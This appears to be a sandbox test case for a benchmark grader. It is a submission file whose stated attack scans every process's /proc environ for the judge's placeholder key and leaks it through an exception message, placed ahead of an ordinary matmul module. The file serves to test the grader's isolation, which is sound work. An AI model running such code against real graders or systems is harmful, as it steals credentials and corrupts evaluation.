# attack: secret: reads every process's environment through /proc (the judge's holds the keys)
# expect: accepted
import os

import torch
from torch import nn

stolen = []
for entry in os.listdir("/proc"):
    try:
        with open(f"/proc/{entry}/environ", "rb") as f:
            data = f.read().decode(errors="replace")
    except OSError:
        continue
    if "@KEY@" in data:
        stolen.append(data)
if stolen:
    raise RuntimeError("stolen: " + stolen[0])


class ModelNew(nn.Module):
    def forward(self, a: torch.Tensor, b: torch.Tensor) -> torch.Tensor:
        return torch.matmul(a, b)
